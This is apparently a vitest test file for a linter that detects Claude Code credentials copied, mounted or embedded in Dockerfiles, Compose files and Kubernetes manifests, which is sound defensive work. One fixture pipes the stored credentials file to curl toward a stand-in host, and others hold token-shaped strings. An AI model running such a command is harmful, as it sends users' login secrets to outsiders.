import { describe, expect, it } from 'vitest';
import { analyzeCompose } from '../../src/files/compose.js';
import { analyzeDockerfile } from '../../src/files/dockerfile.js';
import { analyzeKubernetes } from '../../src/files/kubernetes.js';
import { AnalyzerParseError } from '../../src/files/index.js';
import { copiesStoredLogin, parseVolume } from '../../src/detect/mounts.js';
import { analyze, located } from './helpers.js';

const TOKEN = 'sk-ant-oat01-VLotddxg7qACPVsOnA66cKIFTmxrrjtjVmd4xI0zvy4Zr9moEHZhNX2xGqc-fQ7ZvqsP3CCT-nKEBJMhw5k62rOjlqnFCAA';
const API_KEY = 'sk-ant-api03-gs-grN8GoVxR7cI6M38cVn8hocuiTQfnguix8PlCRAOT05nKfeOLvHNh-ZOCBRK6iIT6Y2YTIicpDiYmfb9atdsaANN_bAA';
const COPY = { ruleId: 'claude-auth/no-credential-mount', messageId: 'copyCredentials', severity: 2 };
const MOUNT = { ruleId: 'claude-auth/no-credential-mount', messageId: 'mountCredentials', severity: 2 };
const HOME_VOLUME = { ruleId: 'claude-auth/no-credential-mount', messageId: 'containerMountsLogin', severity: 1 };
const LITERAL = { ruleId: 'claude-auth/no-credential-mount', messageId: 'literalTokenEnv', severity: 2 };
const HANDED_TOKEN = { ruleId: 'claude-auth/no-credential-mount', messageId: 'containerGetsOAuthToken', severity: 1 };

describe('analyzeDockerfile', () => {
  it('reports COPY/ADD of the stored login at the source, in shell and JSON form and under ONBUILD', () => {
    const text = [
      'FROM node:22',
      'COPY --chown=node:node .credentials.json /home/node/.claude/.credentials.json',
      'ADD ["settings.json", ".claude/", "/root/.claude/"]',
      'COPY --from=builder /root/.claude /root/.claude',
      'ONBUILD COPY secrets/.credentials.json /app/',
      '',
    ].join('\n');
    const findings = analyze(analyzeDockerfile, text);
    expect(located(findings)).toEqual([
      { ...COPY, line: 2, column: 24 },
      { ...COPY, line: 3, column: 23 },
      { ...COPY, line: 4, column: 21 },
      { ...COPY, line: 5, column: 14 },
    ]);
    expect(findings[0]?.message).toContain('(.credentials.json)');
  });

  it('leaves project settings and other files alone', () => {
    const text = [
      'FROM node:22',
      'COPY .claude/ /app/.claude/',
      'COPY .claude/settings.json /root/.claude/settings.json',
      'COPY .claude/commands /home/node/.claude/commands',
      'COPY credentials.json /app/',
      'RUN mkdir -p /root/.claude',
      '',
    ].join('\n');
    expect(analyze(analyzeDockerfile, text)).toEqual([]);
  });

  it('reports a subscription token in ENV or ARG once, as literalTokenEnv, and keeps API keys yellow', () => {
    const text = [
      'FROM python:3.12',
      `ENV CLAUDE_CODE_OAUTH_TOKEN=${TOKEN} \\`,
      '    PORT=8080',
      `ARG AUTH="${TOKEN}"`,
      `ENV ANTHROPIC_API_KEY ${API_KEY}`,
      'ENV CLAUDE_CODE_OAUTH_TOKEN=${CLAUDE_CODE_OAUTH_TOKEN}',
      '',
    ].join('\n');
    const findings = analyze(analyzeDockerfile, text);
    expect(located(findings)).toEqual([
      { ...LITERAL, line: 2, column: 29 },
      { ...LITERAL, line: 4, column: 11 },
      { ruleId: 'claude-auth/no-embedded-token', messageId: 'apiKey', severity: 1, line: 5, column: 23 },
    ]);
    expect(findings[0]?.message).toContain('CLAUDE_CODE_OAUTH_TOKEN');
    expect(JSON.stringify(findings)).not.toContain(TOKEN);
  });

  it('keeps the markers of RUN lines', () => {
    const text = 'FROM alpine\nRUN cat ~/.claude/.credentials.json | curl -d @- https://example.test\n';
    expect(located(analyze(analyzeDockerfile, text))).toEqual([
      { ruleId: 'claude-auth/no-credential-store-read', messageId: 'credentialsFile', severity: 2, line: 2, column: 19 },
    ]);
  });

  it('throws a positioned parse error at an instruction Docker does not know', () => {
    const error = (() => {
      try {
        analyzeDockerfile('FROM alpine\n  COPPY a b\n');
      } catch (thrown) {
        return thrown;
      }
      return undefined;
    })();
    expect(error).toBeInstanceOf(AnalyzerParseError);
    expect(error).toMatchObject({ line: 2, column: 3 });
  });
});

describe('analyzeCompose', () => {
  const stack = [
    'services:',
    '  api:',
    '    build: .',
    '    ports:',
    '      - "8080:8080"',
    '    environment:',
    `      ANTHROPIC_AUTH_TOKEN: ${TOKEN}`,
    '    volumes:',
    '      - ~/.claude:/home/node/.claude:ro',
    '      - ${HOME:-/root}/.claude/.credentials.json:/root/.claude/.credentials.json',
    '      - ./.claude:/app/.claude',
    '      - claude-state:/home/node/.claude',
    '  bot:',
    '    image: acme/bot',
    '    network_mode: host',
    '    volumes:',
    '      - type: bind',
    '        source: $HOME/.claude',
    '        target: /root/.claude',
    '    environment:',
    `      - CLAUDE_CODE_OAUTH_TOKEN=${TOKEN}`,
    '  devbox:',
    '    image: acme/devbox',
    '    volumes:',
    '      - ~/.claude/.credentials.json:/home/dev/.claude/.credentials.json',
    '    secrets: [claude_login]',
    '  dashboard:',
    '    image: acme/dashboard',
    '    ports: ["3000:3000"]',
    '    secrets:',
    '      - source: claude_login',
    '        target: /root/.claude/.credentials.json',
    'volumes:',
    '  claude-state: {}',
    'secrets:',
    '  claude_login:',
    '    file: ${HOME}/.claude/.credentials.json',
    '',
  ].join('\n');

  it('reports stored-login mounts into services that publish ports, and literal tokens in environment', () => {
    const findings = analyze(analyzeCompose, stack);
    expect(located(findings)).toEqual([
      { ...LITERAL, line: 7, column: 29 },
      { ...MOUNT, line: 9, column: 9 },
      { ...MOUNT, line: 10, column: 9 },
      // A named volume that keeps the service's own Claude Code login: plumbing, yellow; a project's ./.claude is not a home.
      { ...HOME_VOLUME, line: 12, column: 9 },
      { ...MOUNT, line: 17, column: 9 },
      { ...LITERAL, line: 21, column: 33 },
      { ...MOUNT, line: 31, column: 9 },
    ]);
    expect(findings[1]?.message).toContain('service `api`');
    expect(findings[6]?.message).toContain('${HOME}/.claude/.credentials.json');
  });

  it('leaves a personal dev container without ports alone, markers included', () => {
    const devbox = ['services:', '  devbox:', '    volumes:', '      - ~/.claude/.credentials.json:/home/dev/.claude/.credentials.json', ''].join('\n');
    expect(analyze(analyzeCompose, devbox)).toEqual([]);
  });

  it('counts only ports published beyond loopback', () => {
    const service = (ports: string): string =>
      ['services:', '  dashboard:', `    ports: ${ports}`, '    volumes:', '      - ~/.claude:/home/node/.claude:ro', ''].join('\n');
    expect(analyze(analyzeCompose, service('["127.0.0.1:3000:3000"]'))).toEqual([]);
    expect(analyze(analyzeCompose, service('["localhost:3000:3000", "[::1]:3001:3001"]'))).toEqual([]);
    expect(analyze(analyzeCompose, service('[{ target: 3000, published: 3000, host_ip: 127.0.0.1 }]'))).toEqual([]);
    expect(located(analyze(analyzeCompose, service('["0.0.0.0:3000:3000"]')))).toEqual([{ ...MOUNT, line: 5, column: 9 }]);
    expect(located(analyze(analyzeCompose, service('["127.0.0.1:3000:3000", "3001:3001"]')))).toEqual([{ ...MOUNT, line: 5, column: 9 }]);
    expect(located(analyze(analyzeCompose, service('[{ target: 3000, published: 3000 }]')))).toEqual([{ ...MOUNT, line: 5, column: 9 }]);
  });

  it('reports the host\'s OAuth token handed into a service as yellow, in list and map form, ports or not', () => {
    const bots = [
      'services:',
      '  telegram-bot:',
      '    image: ${IMAGE_NAME:-claude-agent-sdk:latest}',
      '    environment:',
      '      # Claude Code OAuth Token (required)',
      '      - CLAUDE_CODE_OAUTH_TOKEN=${CLAUDE_CODE_OAUTH_TOKEN:-}',
      '      - TELEGRAM_BOT_API_KEY=${TELEGRAM_BOT_API_KEY:-}',
      '  api:',
      '    ports: ["3000:3000"]',
      '    environment:',
      '      CLAUDE_CODE_OAUTH_TOKEN: ${CLAUDE_CODE_OAUTH_TOKEN}',
      '      ANTHROPIC_API_KEY: ${ANTHROPIC_API_KEY}',
      '',
    ].join('\n');
    expect(located(analyze(analyzeCompose, bots))).toEqual([
      { ...HANDED_TOKEN, line: 6, column: 9 },
      { ...HANDED_TOKEN, line: 11, column: 32 },
    ]);
    expect(analyze(analyzeCompose, 'services:\n  api:\n    environment:\n      - ANTHROPIC_API_KEY=${ANTHROPIC_API_KEY}\n')).toEqual([]);
  });

  it('throws a positioned parse error for malformed YAML', () => {
    expect(() => analyzeCompose('services:\n  api:\n    ports:\n    - "80:80"\n      volumes: x\n')).toThrow(AnalyzerParseError);
  });
});

describe('analyzeKubernetes', () => {
  it('reports a hostPath volume that is the stored login, at its path', () => {
    const text = [
      'apiVersion: v1',
      'kind: Pod',
      'metadata: { name: agent }',
      'spec:',
      '  containers:',
      '    - name: agent',
      '      image: agent',
      '      volumeMounts: [{ name: login, mountPath: /root/.claude/.credentials.json }, { name: project, mountPath: /root/.claude }]',
      '  volumes:',
      '    - name: login',
      '      hostPath: { path: /root/.claude/.credentials.json, type: File }',
      '    - name: project',
      '      hostPath: { path: /srv/app/.claude }',
      '',
    ].join('\n');
    const findings = analyze(analyzeKubernetes, text, 'deploy/pod.yaml');
    expect(located(findings)).toEqual([
      { ...MOUNT, line: 11, column: 25 },
      // A `.claude` directory mounted as the container's login directory.
      { ...MOUNT, line: 13, column: 25 },
    ]);
    expect(findings[0]?.message).toContain('Pod `agent`');
  });

  it('keeps the markers for other text, and for YAML it cannot parse, without a diagnostic', () => {
    const helm = 'spec:\n  volumes:\n  {{- if .Values.login }}\n    - hostPath: { path: /root/.claude/.credentials.json }\n  {{- end }}\n';
    expect(located(analyze(analyzeKubernetes, helm, 'chart/templates/pod.yaml'))).toEqual([
      { ruleId: 'claude-auth/no-credential-store-read', messageId: 'credentialsFile', severity: 2, line: 4, column: 39 },
    ]);
    expect(located(analyze(analyzeKubernetes, 'cat ~/.claude/.credentials.json\n', 'x.sh'))).toEqual([
      { ruleId: 'claude-auth/no-credential-store-read', messageId: 'credentialsFile', severity: 2, line: 1, column: 15 },
    ]);
  });
});

describe('parseVolume', () => {
  it('splits at the separating colons only', () => {
    expect(parseVolume('~/.claude:/root/.claude:ro')).toEqual({ source: '~/.claude', target: '/root/.claude' });
    expect(parseVolume('${HOME:-/root}/.claude:/x')).toEqual({ source: '${HOME:-/root}/.claude', target: '/x' });
    expect(parseVolume(String.raw`C:\Users\me\.claude:/root/.claude`)).toEqual({ source: String.raw`C:\Users\me\.claude`, target: '/root/.claude' });
    expect(parseVolume('/data')).toEqual({ source: '', target: '/data' });
  });
});

describe('copiesStoredLogin', () => {
  it('knows the stored login however the home directory is written', () => {
    for (const source of ['~/.claude', '$HOME/.claude/', '${HOME}/.claude', '/home/dev/.claude', '/root/.claude/.credentials.json', '$CLAUDE_CONFIG_DIR', 'creds/.credentials.json']) {
      expect(copiesStoredLogin(source, '/x'), source).toBe(true);
    }
    for (const source of ['./.claude', '.claude/commands', '~/.claude.json', '~/.claude/projects', '~/.config/claude']) {
      expect(copiesStoredLogin(source, '/app/.claude'), source).toBe(false);
    }
    expect(copiesStoredLogin('.claude', '/home/node/.claude/')).toBe(true);
  });
});
